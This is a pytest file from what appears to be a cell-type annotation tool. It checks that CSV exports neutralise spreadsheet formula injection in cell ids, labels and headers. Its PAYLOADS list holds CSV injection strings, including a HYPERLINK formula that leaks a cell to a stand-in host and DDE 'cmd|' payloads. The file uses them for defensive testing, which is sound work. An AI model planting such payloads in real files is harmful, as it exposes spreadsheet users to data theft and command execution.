"""CSV formula injection: cell ids, labels and class names from users' files never reach an exported CSV as a
formula a spreadsheet would run (OWASP: a leading single quote on any text cell or header that starts with
``= + - @``, tab or carriage return). Both CSV writers are tried: the run's download (``ResultsReader.export``, from
the predictions parquet) and the command line's ``--csv`` (``write_results``), end to end on a real annotation."""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace

import anndata as ad
import numpy as np
import pandas as pd
import pytest

from inference.csv_safe import FORMULA_STARTS, neutralise, neutralised
from tests.conftest import PBMC
from tests.reliability import record

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1", "x\r=1+1", "y\n@SUM(1)"]


def _formula_cells(path: Path) -> list[tuple[int, int, str]]:
    """Every (row, column, text) of the CSV a spreadsheet would read as a formula (a plain number is not one)."""
    with open(path, newline="") as fh:
        return [(r, c, cell) for r, row in enumerate(csv.reader(fh)) for c, cell in enumerate(row)
                if neutralise(cell) != cell]


def test_each_formula_prefix_is_quoted_and_numbers_stay_numbers(request):
    for payload in PAYLOADS:
        if payload[0] in "xy":  # the formula after a line break inside the cell: kept in the cell by quoting
            assert neutralise(payload) == payload
        else:
            assert neutralise(payload) == "'" + payload, payload
    assert {p[0] for p in PAYLOADS} >= set(FORMULA_STARTS)  # every prefix OWASP names is among the payloads
    for harmless in ("B cells", "CD4+ T", "'=already quoted", "", "a=b", "p_=1+1"):
        assert neutralise(harmless) == harmless
    for number in ("-1", "+2.5", "-3e5", "-.5", -2.5, np.float32(-1.0), None):
        assert neutralise(number) == number or number != number

    frame = pd.DataFrame({"cell_id": ["=cmd", "ok"], "predicted_label": pd.Categorical(["@SUM(1)", "T cell"]),
                          "umap_1": [-2.5, 3.0], "=1+1": ["x", "-2+3"], "p_-1": [0.5, -0.0],
                          "@header": pd.array(["+x", None], dtype="string")})
    out = neutralised(frame)
    assert list(out.columns) == ["cell_id", "predicted_label", "umap_1", "'=1+1", "p_-1", "'@header"]
    assert out["cell_id"].tolist() == ["'=cmd", "ok"] and out["predicted_label"].tolist() == ["'@SUM(1)", "T cell"]
    assert out["'=1+1"].tolist() == ["x", "'-2+3"] and out["'@header"].iloc[0] == "'+x"
    assert pd.isna(out["'@header"].iloc[1])
    assert out["umap_1"].dtype == np.float64 and out["umap_1"].tolist() == [-2.5, 3.0]  # still numbers
    assert frame["cell_id"].tolist() == ["=cmd", "ok"]  # the caller's table (and so the parquet) unchanged
    record("security", "CSV formula injection: the neutralising rule",
           f"{len(PAYLOADS)} payloads (= + - @ tab CR prefixes, HYPERLINK, DDE cmd|), in text, categorical and string "
           "columns and in headers; plain numbers as text and as floats",
           "each payload and header given a leading '; negative floats and numeric text unchanged",
           "no formula reaches a CSV", request.node.nodeid)


def test_the_runs_csv_download_quotes_formula_cells_and_headers(tmp_path, request):
    from app.run_results import ResultsReader
    from inference.run_files import CSV, PREDICTIONS, UNSAFE_CSV
    from store.tables import RunStatus

    folder = tmp_path / "run"
    folder.mkdir()
    n = 25_000  # three parquet row groups: the CSV is written a group at a time
    labels = [PAYLOADS[i % len(PAYLOADS)] for i in range(n)]
    table = pd.DataFrame({"cell_id": [f"{PAYLOADS[i % len(PAYLOADS)]}#{i}" for i in range(n)],
                          "predicted_label": labels, "confidence": np.linspace(0, 1, n),
                          "umap_1": np.linspace(-5, 5, n), "p_=1+1": np.full(n, 0.25), "p_-2+3": np.full(n, 0.75)})
    table.to_parquet(folder / PREDICTIONS, index=False, row_group_size=10_000)
    (folder / UNSAFE_CSV).write_text("cell_id\n=1+1\n")  # what an older version cached: must not be served
    run = SimpleNamespace(status=RunStatus.DONE, application_id="cell-type-annotation")
    reader = ResultsReader(SimpleNamespace(run_dir=lambda run_id: folder), lambda run_id: run)

    path = reader.export("r1", "csv")
    assert path.name == CSV and not (folder / UNSAFE_CSV).exists()
    assert _formula_cells(path) == []
    back = pd.read_csv(path, keep_default_na=False)
    assert len(back) == n and list(back.columns) == list(table.columns)  # p_ headers start with p: left as named
    assert back["cell_id"][0] == "'" + table["cell_id"][0] and back["predicted_label"][3] == "'-2+3"
    assert back["umap_1"].min() == -5.0 and back["umap_1"].dtype == np.float64  # negative numbers stay numbers
    assert (back["predicted_label"].str.removeprefix("'") == table["predicted_label"]).all()  # nothing else changed
    record("security", "CSV formula injection: a run's CSV download",
           f"{n} cells whose ids and labels start with = + - @ tab CR (HYPERLINK, cmd|, SUM), p_ headers of such "
           "classes, a CSV cached by an older version", "every formula cell quoted; numbers numeric; the old CSV "
           "removed, not served", "no cell of the download runs in a spreadsheet", request.node.nodeid)


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory) -> tuple[Path, Path]:
    """The shipped PBMCs, reference labels and query cell ids replaced by formulas."""
    folder = tmp_path_factory.mktemp("csv-injection")
    full = ad.read_h5ad(PBMC)
    ref, query = full[1::2].copy(), full[0::8].copy()
    kinds = sorted(ref.obs["celltype"].astype(str).unique())
    evil = {k: PAYLOADS[i % len(PAYLOADS)] + f" {i}" for i, k in enumerate(kinds)}
    ref.obs["celltype"] = ref.obs["celltype"].astype(str).map(evil).astype("category")
    query.obs_names = [PAYLOADS[i % len(PAYLOADS)] + f"-{i}" for i in range(query.n_obs)]
    paths = folder / "reference.h5ad", folder / "query.h5ad"
    ref.write_h5ad(paths[0])
    query.write_h5ad(paths[1])
    return paths


@pytest.mark.slow
def test_the_command_lines_csv_of_a_real_annotation_has_no_formula(hostile_files, settings, tmp_path, request):
    from app.annotate import annotate_files

    ref, query = hostile_files
    out = tmp_path / "annotated.h5ad"
    annotate_files(settings, "baseline", query, out, "celltype", reference=ref, write_csv=True)
    path = out.with_suffix(".csv")
    assert _formula_cells(path) == []
    back = pd.read_csv(path, keep_default_na=False)
    ids, classes = ad.read_h5ad(query).obs_names, set(ad.read_h5ad(ref).obs["celltype"].astype(str))
    assert back["cell_id"].tolist() == [neutralise(c) for c in ids]  # quoted, and nothing else changed
    assert set(back["predicted_label"]) <= {neutralise(c) for c in classes}
    assert back["predicted_label"].str.startswith("'").mean() > 0.5
    assert back["umap_1"].dtype == np.float64 and (back["umap_1"] < 0).any()
    assert ad.read_h5ad(out).obs_names[0] == PAYLOADS[0] + "-0"  # the .h5ad keeps the ids as they are
    record("security", "CSV formula injection: a real annotation's --csv",
           "baseline annotation of PBMCs whose reference labels and query cell ids are formulas (= + - @ tab CR)",
           "cell ids and predicted labels quoted in the CSV; UMAP coordinates numeric; the .h5ad unchanged",
           "no formula in the command line's CSV", request.node.nodeid)
